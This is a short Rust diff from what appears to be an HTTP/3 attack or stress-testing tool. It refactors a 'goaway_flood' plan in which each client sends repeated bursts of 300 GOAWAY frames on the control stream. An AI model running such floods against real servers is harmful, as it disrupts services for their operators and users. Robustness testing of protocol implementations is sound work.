@@ -3,7 +3,7 @@
 use crate::attack::{Plan, Victim};
 use crate::http;
 
-use super::{Crowd, crowd};
+use super::Crowd;
 
 /// The entry of the attack in the list.
 pub(super) const PLAN: Plan = Plan {
@@ -15,15 +15,12 @@ pub(super) const PLAN: Plan = Plan {
 };
 
 fn goaway_flood() -> Crowd {
-    Crowd::new(2, |connection, progress, _| {
-        let id = http::uni_stream(http::CONTROL);
+    Crowd::of_clients(2, |connection, progress, _| {
         let bytes = http::frame(http::GOAWAY, &[0]).repeat(300);
         for _ in 0..BURST {
-            connection.push_bytes(http::stream(id, progress.control, &bytes, false));
-            progress.control += bytes.len() as u64;
+            progress.push_control(connection, &bytes);
         }
     })
-    .with_begin(crowd::preface)
 }
 
 /// Packets of one connection in one turn.
